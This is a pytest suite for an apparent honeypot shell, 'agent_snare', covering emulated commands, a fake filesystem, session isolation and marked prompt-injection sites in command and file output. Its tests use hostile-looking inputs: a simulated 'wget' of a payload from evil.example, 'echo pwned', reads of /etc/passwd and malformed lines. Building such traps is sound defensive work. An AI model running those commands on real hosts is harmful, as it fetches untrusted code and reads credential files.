import pytest

from agent_snare import shell
from agent_snare.shell import (
    CommandResult,
    execute,
    initial_state,
    read_file,
    render_uname,
)


@pytest.fixture(scope="module")
def personality():
    return shell.default_personality()


@pytest.fixture(scope="module")
def fs():
    return shell.default_filesystem()


@pytest.fixture
def state(personality, fs):
    return initial_state(personality, fs, "root")


def run(state, line):
    result, new_state = execute(state, line)
    return result, new_state


class TestBasics:
    def test_pwd(self, state):
        result, _ = run(state, "pwd")
        assert result.output == "/root\n"
        assert result.exit_code == 0

    def test_whoami(self, state):
        assert run(state, "whoami")[0].output == "root\n"

    def test_unknown_command(self, state):
        result, _ = run(state, "nosuchcmd")
        assert result.output == "nosuchcmd: command not found\n"
        assert result.exit_code == 127

    def test_echo(self, state):
        assert run(state, "echo hello world")[0].output == "hello world\n"

    def test_id(self, state):
        assert "uid=0(root)" in run(state, "id")[0].output

    def test_exit_terminates(self, state):
        assert run(state, "exit")[0].terminate

    def test_empty_line_noop(self, state):
        result, new_state = run(state, "   ")
        assert result.output == ""
        assert new_state.cwd == state.cwd

    def test_exit_code_tracked(self, state):
        _, s1 = run(state, "nosuchcmd")
        assert s1.last_exit_code == 127
        _, s2 = run(s1, "pwd")
        assert s2.last_exit_code == 0


class TestUname:
    def test_uname_a_uses_personality_template(self, state, personality):
        result, _ = run(state, "uname -a")
        assert result.output.startswith(f"Linux {personality.hostname} ")
        assert result.injection_site == ("command_output", "uname")

    def test_bare_uname(self, state):
        result, _ = run(state, "uname")
        assert result.output == "Linux\n"

    def test_render_uname_fallback_without_template(self, fs):
        bare = shell.personality_from_dict({
            "hostname": "other", "ssh_version_banner": "SSH-2.0-test",
            "default_users": [["root", "/root"]], "command_outputs": {},
        })
        result = render_uname(bare)
        assert result.output.startswith("Linux other ")
        assert result.injection_site is not None

    def test_deterministic(self, state):
        assert run(state, "uname -a")[0] == run(state, "uname -a")[0]


class TestFilesystem:
    def test_read_seeded_passwd(self, state):
        status, content = read_file(state, "/etc/passwd")
        assert status == "ok"
        assert content.startswith("root:x:0:0:root:/root:/bin/bash\n")

    def test_read_missing(self, state):
        assert read_file(state, "/nonexistent")[0] == "not_found"

    def test_read_directory(self, state):
        assert read_file(state, "/etc")[0] == "is_directory"

    def test_cat_marks_file_injection_site(self, state):
        result, _ = run(state, "cat /etc/passwd")
        assert result.injection_site == ("file_content", "/etc/passwd")

    def test_cat_missing(self, state):
        result, _ = run(state, "cat /nope")
        assert result.output == "cat: /nope: No such file or directory\n"
        assert result.exit_code == 1

    def test_cd_and_relative_paths(self, state):
        _, s = run(state, "cd /etc")
        assert s.cwd == "/etc"
        result, _ = run(s, "cat passwd")
        assert "root:x:0:0" in result.output

    def test_cd_missing(self, state):
        result, s = run(state, "cd /definitely/not/here")
        assert result.exit_code == 1
        assert s.cwd == state.cwd

    def test_ls(self, state):
        result, _ = run(state, "ls /etc")
        assert "passwd" in result.output
        assert "hostname" in result.output

    def test_ls_long_and_hidden(self, state):
        plain, _ = run(state, "ls /root")
        assert ".bash_history" not in plain.output
        longout, _ = run(state, "ls -la /root")
        assert ".bash_history" in longout.output
        assert longout.output.startswith("total ")

    def test_size_deception_override(self, state):
        result, _ = run(state, "ls -l /home/admin")
        assert "52428800" in result.output


class TestWritesAndIsolation:
    def test_redirect_creates_overlay_node(self, state):
        _, s = run(state, "echo pwned > /tmp/x.txt")
        assert read_file(s, "/tmp/x.txt") == ("ok", "pwned\n")

    def test_base_filesystem_untouched(self, state, fs):
        _, s = run(state, "echo pwned > /tmp/x.txt")
        assert fs.get("/tmp/x.txt") is None
        assert read_file(state, "/tmp/x.txt")[0] == "not_found"

    def test_session_isolation(self, personality, fs):
        a = initial_state(personality, fs)
        b = initial_state(personality, fs)
        _, a2 = run(a, "echo secret > /tmp/a.txt")
        assert read_file(b, "/tmp/a.txt")[0] == "not_found"
        assert read_file(a2, "/tmp/a.txt")[0] == "ok"

    def test_wget_simulated_only(self, state):
        result, s = run(state, "wget http://evil.example/payload.sh")
        assert result.exit_code == 0
        assert "200 OK" in result.output
        assert s.fetched_urls == ("http://evil.example/payload.sh",)
        assert read_file(s, "/root/payload.sh")[0] == "ok"


class TestPipelines:
    def test_pipe_grep(self, state):
        result, _ = run(state, "cat /etc/passwd | grep root")
        assert result.output == "root:x:0:0:root:/root:/bin/bash\n"

    def test_pipe_head(self, state):
        result, _ = run(state, "cat /etc/passwd | head -n 2")
        assert result.output.count("\n") == 2

    def test_standalone_grep_on_file(self, state):
        result, _ = run(state, "grep admin /etc/passwd")
        assert "admin" in result.output

    def test_oversized_line_truncated(self, state):
        result, _ = run(state, "echo " + "A" * (shell.MAX_LINE_BYTES + 100))
        assert result.exit_code in (0, 1)

    def test_hostile_line_never_raises(self, state):
        for line in ["|||", ">>>", "cat |", "'unterminated", "\x00\x01"]:
            result, _ = run(state, line)
            assert 0 <= result.exit_code <= 255


class TestConfigLoading:
    def test_manifest_roundtrip(self, tmp_path):
        manifest = tmp_path / "fs.json"
        manifest.write_text(
            '[{"path": "/", "kind": "dir"},'
            ' {"path": "/hello.txt", "kind": "file", "content": "hi\\n"}]'
        )
        fs = shell.load_filesystem(str(manifest))
        assert read_file(fs, "/hello.txt") == ("ok", "hi\n")

    def test_duplicate_paths_rejected(self):
        with pytest.raises(ValueError):
            shell.filesystem_from_records([
                {"path": "/a", "kind": "file"},
                {"path": "/a", "kind": "file"},
            ])

    def test_directory_with_content_rejected(self):
        with pytest.raises(ValueError):
            shell.filesystem_from_records([{"path": "/d", "kind": "dir", "content": "x"}])

    def test_default_personality_valid(self, personality):
        assert personality.ssh_version_banner.startswith("SSH-2.0-")
        assert ("root", "/root") in personality.default_users
